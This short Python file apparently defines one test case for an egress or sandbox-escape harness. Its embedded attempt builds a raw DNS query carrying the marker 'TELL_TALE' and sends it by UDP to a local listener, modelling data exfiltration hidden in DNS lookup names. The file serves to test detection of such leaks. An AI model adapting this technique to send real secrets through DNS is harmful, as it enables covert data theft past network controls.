"""Hides what it knows in the names that it looks up."""

KIND = "outside"
GAINS = "secret"
ATTEMPT = """
import socket

def attempt():
    query = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x09TELL_TALE\\0\\0\\1\\0\\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(query, ("127.0.0.1", LISTENER_PORT))
    return True
"""
